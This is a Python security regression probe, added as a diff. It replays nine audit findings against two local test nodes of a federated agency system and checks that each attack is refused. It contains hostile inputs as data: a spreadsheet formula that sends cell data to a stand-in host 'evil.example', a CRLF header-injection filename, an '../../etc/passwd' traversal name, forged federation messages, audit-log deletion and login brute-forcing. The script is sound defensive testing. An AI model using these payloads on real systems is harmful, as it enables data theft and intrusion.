@@ -1,0 +1,551 @@
+"""Security probe: the outside probe's findings 1-9 (issue 12), replayed against two real nodes.
+
+    .venv/bin/python bench/security_probe.py [--only 2,4,7,8,9]
+
+Starts MA-DGSN and FR-DGPN (tests/support/nodes.py: `jisr serve` + `jisr worker`, demo data,
+wired as partners), then tries each attack the way an attacker or a careless user would, over
+real HTTP, and prints one line per attempt and a summary:
+
+    finding 2  upload: XLSX with one 3 MB cell            refused (422)
+    ...
+    tried=24 refused=24 unexpected=0
+
+An attempt is "refused" when the node turned it away (or, for a safeguard such as a
+formula-safe export, when the dangerous result did not come out). Exit code 1 when any
+attempt was not refused. ``probe_results`` is imported by tests/test_security_probe.py so
+CI runs the same checks.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import io
+import json
+import re
+import sys
+import time
+import uuid
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(REPO))
+sys.path.insert(0, str(REPO / "src"))
+
+import httpx  # noqa: E402
+from tests.support.browser import DEMO_PASSWORD as PASSWORD  # noqa: E402
+from tests.support.nodes import Node, destroy, make_node, wire_partners  # noqa: E402
+
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
+)
+
+
+@dataclass
+class Attempt:
+    finding: int
+    what: str
+    refused: bool
+    detail: str
+
+
+def _api(node: Node, token: str) -> httpx.Client:
+    return httpx.Client(
+        base_url=f"{node.url}/api/v1", headers={"Authorization": f"Bearer {token}"}, timeout=60
+    )
+
+
+def _xlsx(rows_xml: str) -> bytes:
+    """A minimal workbook, written by hand so that a huge one costs nothing to build."""
+    ns = "http://schemas.openxmlformats.org"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(
+            "[Content_Types].xml",
+            f'<Types xmlns="{ns}/package/2006/content-types">'
+            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
+            "</Types>",
+        )
+        z.writestr(
+            "_rels/.rels",
+            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
+            f'Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
+            "</Relationships>",
+        )
+        z.writestr(
+            "xl/workbook.xml",
+            f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships">'
+            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        )
+        z.writestr(
+            "xl/_rels/workbook.xml.rels",
+            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
+            f'Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
+            "</Relationships>",
+        )
+        z.writestr(
+            "xl/worksheets/sheet1.xml",
+            f'<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>{rows_xml}</sheetData></worksheet>',
+        )
+    return buffer.getvalue()
+
+
+def _row(n: int, text: str) -> str:
+    return f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{text}</t></is></c></row>'
+
+
+def _web_login(node: Node, username: str) -> httpx.Client:
+    """A browser-like session through the real login form (password and TOTP)."""
+    for _attempt in range(3):
+        client = httpx.Client(base_url=node.url, timeout=60, follow_redirects=False)
+        page = client.get("/accounts/login/")
+        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
+        assert csrf is not None
+        answer = client.post(
+            "/accounts/login/",
+            data={
+                "csrfmiddlewaretoken": csrf.group(1),
+                "username": username,
+                "password": PASSWORD,
+                "otp_token": node.totp(username),
+            },
+            headers={"Referer": f"{node.url}/accounts/login/"},
+        )
+        if answer.status_code == 302:
+            return client
+        time.sleep(31)  # the code of this window was used already
+    raise AssertionError(f"could not log in as {username}")
+
+
+# -- the findings ---------------------------------------------------------------------------
+
+
+def finding_1(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    """A partner's signed replica.upsert of the receiver's own event must be refused."""
+    from jisr.federation.keys import key_id_for, load_private_key
+    from jisr.federation.signing import sign_request
+
+    rows = ma.sql(
+        "SELECT e.id FROM events_event e JOIN accounts_agency a ON a.id = e.owner_id"
+        " WHERE a.code = 'MA-DGSN' LIMIT 1"
+    )
+    if not rows:
+        return [Attempt(1, "replica.upsert of MA's own event", False, "no own event on MA")]
+    event_id = str(rows[0][0])
+    private = load_private_key(fr.home)
+    assert private is not None
+    key_id = key_id_for(private.public_key())
+    envelope = {
+        "id": str(uuid.uuid4()),
+        "type": "replica.upsert",
+        "version": 1,
+        "sender": "FR-DGPN",
+        "recipient": "MA-DGSN",
+        "created": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
+        "body": {
+            "record_type": "events.event",
+            "record_id": event_id,
+            "version": 1000,
+            "owner": "FR-DGPN",
+            "data": {"id": event_id, "owner": "FR-DGPN", "name": "Taken over (probe)"},
+        },
+    }
+    body = json.dumps(envelope, separators=(",", ":"), sort_keys=True).encode()
+    headers = sign_request(
+        method="POST",
+        path="/federation/inbox",
+        body=body,
+        private_key=private,
+        key_id=key_id,
+        created=int(time.time()),
+    )
+    answer = httpx.post(f"{ma.url}/federation/inbox", content=body, headers=headers, timeout=30)
+    owner = ma.sql(
+        "SELECT a.code FROM events_event e JOIN accounts_agency a ON a.id = e.owner_id WHERE e.id = ?",
+        (event_id,),
+    )
+    kept = bool(owner) and owner[0][0] == "MA-DGSN"
+    return [
+        Attempt(
+            1,
+            "partner replica.upsert takes over MA's own event",
+            answer.status_code >= 400 and kept,
+            f"{answer.status_code}, owner now {owner[0][0] if owner else 'deleted'}",
+        )
+    ]
+
+
+def finding_2(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    api = _api(ma, tokens["ma.officer"])
+    cases: list[tuple[str, str, bytes]] = [
+        ("XLSX with one 3 MB cell", "m.xlsx", _xlsx(_row(1, "names") + _row(2, "A" * 3_000_000))),
+        (
+            "XLSX of 60,000 rows",
+            "m.xlsx",
+            _xlsx(_row(1, "names") + "".join(_row(n, f"P{n} Q") for n in range(2, 60_002))),
+        ),
+        ("CSV of 25 MB", "m.csv", b"names\n" + b"Nadia Fictive\n" * 1_900_000),
+        ("CSV with a 100 KB field", "m.csv", b'names\n"' + b"B" * 100_000 + b'"\n'),
+    ]
+    out = []
+    for what, name, content in cases:
+        started = time.monotonic()
+        answer = api.post(
+            "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": (name, content)}
+        )
+        seconds = time.monotonic() - started
+        out.append(
+            Attempt(
+                2,
+                f"upload: {what}",
+                answer.status_code == 422,
+                f"{answer.status_code} in {seconds:.1f} s",
+            )
+        )
+    return out
+
+
+def finding_3(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    answer = httpx.get(f"{ma.url}/accounts/login/", timeout=30)
+    csp = answer.headers.get("content-security-policy", "")
+    inline = "<script>" in answer.text or " onchange=" in answer.text or " style=" in answer.text
+    return [
+        Attempt(3, "a page without Content-Security-Policy", "script-src 'self'" in csp, csp[:60]),
+        Attempt(
+            3,
+            "inline script or style in the login page",
+            not inline,
+            "none" if not inline else "found",
+        ),
+        # HSTS, the proxy and the login behind TLS: tests/core/test_production_proxy.py (nginx).
+    ]
+
+
+def _batch_and_wait(api: httpx.Client, content: bytes, name: str) -> str:
+    answer = api.post(
+        "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": (name, content)}
+    )
+    answer.raise_for_status()
+    job = answer.json()["id"]
+    for _ in range(120):
+        if api.get(f"/screenings/{job}").json()["status"] == "done":
+            return str(job)
+        time.sleep(0.5)
+    raise AssertionError("the batch did not finish")
+
+
+def finding_4(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    api = _api(ma, tokens["ma.officer"])
+    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)", "+1+1", "-2+3"]
+    lines = "".join(json.dumps({"names": [a], "id": f"r{i}"}) + "\n" for i, a in enumerate(attacks))
+    job = _batch_and_wait(api, lines.encode(), "f.jsonl")
+    web = _web_login(ma, "ma.officer")
+    text = web.get(f"/wanted/screening/{job}/results.csv").text
+    import csv
+
+    names = [row[2] for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))][1:]
+    return [
+        Attempt(
+            4,
+            f"screening CSV cell {attack[:24]!r}",
+            ("'" + attack) in names,
+            "quoted" if ("'" + attack) in names else "verbatim",
+        )
+        for attack in attacks
+    ]
+
+
+def finding_5(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    """Deleting the last audit rows and the chain head must not pass verification."""
+    ma.sql(
+        "DROP TRIGGER IF EXISTS audit_no_delete"
+    )  # SQLite has none; PostgreSQL's is dropped by an owner
+    last = ma.sql("SELECT MAX(id) FROM audit_auditentry")[0][0]
+    try:
+        ma.sql("DELETE FROM audit_auditentry WHERE id > ?", (int(last) - 3,))
+        ma.sql("DELETE FROM audit_auditchainhead")
+    except Exception as exc:  # a trigger refused the deletion: that is a refusal too
+        return [Attempt(5, "truncate the audit log and its head", True, f"refused: {exc}")]
+    result = ma.jisr("audit", "verify", check=False)
+    return [
+        Attempt(
+            5,
+            "truncate the audit log and its head",
+            result.returncode != 0,
+            f"verify exit {result.returncode}",
+        )
+    ]
+
+
+def finding_6(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    """An FR message marked H3 must not be exported by MA."""
+    fr_api = _api(fr, tokens["fr.officer"])
+    case = fr_api.post(
+        "/cases", json={"title": "Probe H3 (test)", "crime_area": "fraud", "partners": ["MA-DGSN"]}
+    )
+    if case.status_code != 201:
+        return [
+            Attempt(6, "export an H3 message of the partner", False, f"case: {case.status_code}")
+        ]
+    message = fr_api.post(
+        f"/cases/{case.json()['id']}/messages",
+        json={
+            "kind": "request_information",
+            "subject": "H3 probe",
+            "body": "Not for third parties.",
+            "handling_code": "H3",
+            "source_reliability": "B",
+            "information_accuracy": "2",
+            "priority": "urgent",
+            "language": "fr",
+        },
+    )
+    message_id = message.json().get("id")
+    ma_api = _api(ma, tokens["ma.officer"])
+    answer = None
+    for _ in range(60):
+        answer = ma_api.get(f"/messages/{message_id}/export")
+        if answer.status_code != 404:
+            break
+        time.sleep(0.5)
+    assert answer is not None
+    return [
+        Attempt(
+            6,
+            "export an H3 message of the partner",
+            answer.status_code == 403,
+            str(answer.status_code),
+        )
+    ]
+
+
+def _ma_case(api: httpx.Client) -> str:
+    case = api.post(
+        "/cases", json={"title": "Probe (test)", "crime_area": "fraud", "partners": ["FR-DGPN"]}
+    )
+    case.raise_for_status()
+    return str(case.json()["id"])
+
+
+def _send_attachment(api: httpx.Client, case_id: str, filename: str, data: bytes) -> httpx.Response:
+    return api.post(
+        f"/cases/{case_id}/messages",
+        json={
+            "kind": "request_information",
+            "subject": "Probe",
+            "body": "Probe attachment",
+            "handling_code": "H0",
+            "source_reliability": "B",
+            "information_accuracy": "2",
+            "priority": "urgent",
+            "language": "fr",
+            "attachments": [
+                {"filename": filename, "content_base64": base64.b64encode(data).decode()}
+            ],
+        },
+    )
+
+
+def finding_7(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    api = _api(ma, tokens["ma.officer"])
+    case_id = _ma_case(api)
+    out = []
+    for name in ['a"\r\nSet-Cookie: pwn=1\r\nX: .txt', "../../../../etc/passwd"]:
+        sent = _send_attachment(api, case_id, name, PNG)
+        attachment = sent.json()["attachments"][0]
+        download = api.get(f"/messages/{sent.json()['id']}/attachments/{attachment['id']}")
+        safe = "/" not in attachment["filename"] and "\r" not in attachment["filename"]
+        out.append(
+            Attempt(
+                7,
+                f"attachment named {name[:20]!r}",
+                safe
+                and download.status_code == 200
+                and "pwn" not in download.headers.get("set-cookie", ""),
+                f"stored {attachment['filename']!r}, download {download.status_code}",
+            )
+        )
+    return out
+
+
+def finding_8(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    out = []
+    expired = ma.token("ma.analyst")
+    ma.sql(
+        "UPDATE accounts_apitoken SET expires_at = '2000-01-01 00:00:00' WHERE prefix = ?",
+        (expired[:12],),
+    )
+    answer = _api(ma, expired).get("/me")
+    out.append(Attempt(8, "an expired token", answer.status_code == 401, str(answer.status_code)))
+    locked = ma.token("ma.supervisor")
+    client = httpx.Client(base_url=ma.url, timeout=30)
+    for _ in range(5):
+        page = client.get("/accounts/login/")
+        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
+        client.post(
+            "/accounts/login/",
+            data={
+                "csrfmiddlewaretoken": csrf.group(1) if csrf else "",
+                "username": "ma.supervisor",
+                "password": "wrong password",
+                "otp_token": "000000",
+            },
+            headers={"Referer": f"{ma.url}/accounts/login/"},
+        )
+    answer = _api(ma, locked).get("/me")
+    out.append(
+        Attempt(
+            8, "a token of a locked-out account", answer.status_code == 401, str(answer.status_code)
+        )
+    )
+    read_only = ma.jisr("token", "create", "ma.officer", "--scope", "read").stdout.split()[-1]
+    answer = _api(ma, read_only).post(
+        "/screenings", json={"purpose": "Probe", "subjects": [{"names": ["A B"]}]}
+    )
+    out.append(
+        Attempt(8, "a read-only token writes", answer.status_code == 403, str(answer.status_code))
+    )
+    return out
+
+
+def finding_9(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
+    api = _api(ma, tokens["ma.officer"])
+    out = []
+    deep = b'{"names": ["A B"]}\n' + b"[" * 100_000 + b"]" * 100_000 + b"\n"
+    answer = api.post(
+        "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": ("d.jsonl", deep)}
+    )
+    out.append(
+        Attempt(9, "deeply nested JSONL line", answer.status_code == 422, str(answer.status_code))
+    )
+    big = PNG + b"\0" * (9 * 1024 * 1024 - len(PNG))
+    sent = _send_attachment(api, _ma_case(api), "scan.png", big)
+    # A refusal of a legitimate 9 MB file is the bug; "refused" here means the bug is gone.
+    out.append(
+        Attempt(9, "a 9 MB attachment is accepted", sent.status_code == 201, str(sent.status_code))
+    )
+    alerts = api.get("/alerts", params={"owner": "own", "status": "active"}).json()
+    items = alerts["items"] if isinstance(alerts, dict) else alerts
+    if items:
+        for body in ("5", '"text"', "null"):
+            answer = api.post(
+                f"/alerts/{items[0]['id']}/withdraw",
+                content=body,
+                headers={"Content-Type": "application/json"},
+            )
+            out.append(
+                Attempt(
+                    9,
+                    f"withdraw with body {body}",
+                    answer.status_code == 422,
+                    str(answer.status_code),
+                )
+            )
+    document = httpx.get(f"{ma.url}/api/v1/openapi.json", timeout=30).json()
+    undeclared = sum(
+        1
+        for operations in document["paths"].values()
+        for operation in operations.values()
+        for status in ("401", "403", "404", "422")
+        if status not in operation["responses"]
+    )
+    out.append(
+        Attempt(
+            9,
+            "OpenAPI operations without 401/403/404/422",
+            undeclared == 0,
+            f"{undeclared} missing",
+        )
+    )
+    client = httpx.Client(base_url=ma.url, timeout=30)
+    statuses = []
+    for n in range(25):
+        page = client.get("/accounts/login/")
+        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
+        statuses.append(
+            client.post(
+                "/accounts/login/",
+                data={
+                    "csrfmiddlewaretoken": csrf.group(1) if csrf else "",
+                    "username": f"probe.nobody{n // 5}",
+                    "password": "wrong password",
+                    "otp_token": "000000",
+                },
+                headers={"Referer": f"{ma.url}/accounts/login/"},
+            ).status_code
+        )
+    out.append(
+        Attempt(
+            9,
+            "one address fails 25 logins over 5 accounts",
+            429 in statuses[:21],
+            f"first 429 at attempt {statuses.index(429) + 1 if 429 in statuses else '-'}",
+        )
+    )
+    return out
+
+
+FINDINGS: dict[int, Callable[[Node, Node, dict[str, str]], list[Attempt]]] = {
+    1: finding_1,
+    2: finding_2,
+    3: finding_3,
+    4: finding_4,
+    5: finding_5,
+    6: finding_6,
+    7: finding_7,
+    8: finding_8,
+    9: finding_9,
+}
+
+
+def start_nodes() -> tuple[Node, Node]:
+    ma, fr = make_node("MA-DGSN"), make_node("FR-DGPN")
+    described = {node.agency: node.setup() for node in (ma, fr)}
+    wire_partners([ma, fr], described)
+    for node in (ma, fr):
+        node.start_server()
+        node.start_worker()
+    return ma, fr
+
+
+def probe_results(ma: Node, fr: Node, findings: list[int]) -> list[Attempt]:
+    """Run the chosen findings' attempts; an attempt that crashed counts as not refused."""
+    tokens = {"ma.officer": ma.token("ma.officer"), "fr.officer": fr.token("fr.officer")}
+    results: list[Attempt] = []
+    for number in findings:
+        try:
+            results.extend(FINDINGS[number](ma, fr, tokens))
+        except Exception as exc:  # the probe reports, it does not stop
+            results.append(
+                Attempt(number, "the probe itself", False, f"{type(exc).__name__}: {exc}"[:200])
+            )
+    return results
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--only", default="1,2,3,4,5,6,7,8,9", help="comma-separated findings")
+    args = parser.parse_args()
+    findings = [int(n) for n in args.only.split(",")]
+    ma, fr = start_nodes()
+    try:
+        results = probe_results(ma, fr, findings)
+    finally:
+        destroy(ma)
+        destroy(fr)
+    for attempt in results:
+        verdict = "refused" if attempt.refused else "NOT REFUSED"
+        print(f"finding {attempt.finding}  {attempt.what:<52} {verdict:<12} ({attempt.detail})")
+    unexpected = sum(1 for a in results if not a.refused)
+    print(f"tried={len(results)} refused={len(results) - unexpected} unexpected={unexpected}")
+    return 1 if unexpected else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
